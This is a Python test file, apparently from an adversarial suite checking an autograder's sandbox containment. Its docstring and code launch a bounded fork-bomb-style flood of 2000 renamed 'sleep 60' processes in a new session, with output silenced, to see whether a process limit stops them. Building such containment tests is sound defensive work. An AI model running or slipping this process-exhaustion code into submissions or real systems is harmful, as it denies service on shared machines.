"""Containment: a fork bomb, bounded to 2000 processes.

Attack: start 2000 processes (``sleep 60`` renamed with ``exec -a`` to the case's marker) as
fast as possible, from a shell in a new session. A process limit stops it early; without one the
machine's process table fills. DAMAGE BOUND: at most 2000 processes, each exits after 60 s.
Old grader: see BASELINE.md (expected: all 2000 start and outlive the grading).
"""
EXPECT = {"max_score": 0, "doors": ["grade", "grade_all", "nbgrader"], "place": "end", "leaves_no_trace": []}

import subprocess as _subprocess
import sys as _sys

MARKER = "__ADV_MARKER__"
if not getattr(_sys, "_adv_bomb", False):
    _sys._adv_bomb = True
    try:
        _subprocess.run(
            ["bash", "-c", f'for i in $(seq 2000); do (exec -a {MARKER} sleep 60) & done 2>/dev/null; exit 0'],
            start_new_session=True, stdin=_subprocess.DEVNULL, stdout=_subprocess.DEVNULL,
            stderr=_subprocess.DEVNULL, timeout=60,
        )
    except (OSError, _subprocess.SubprocessError):
        pass
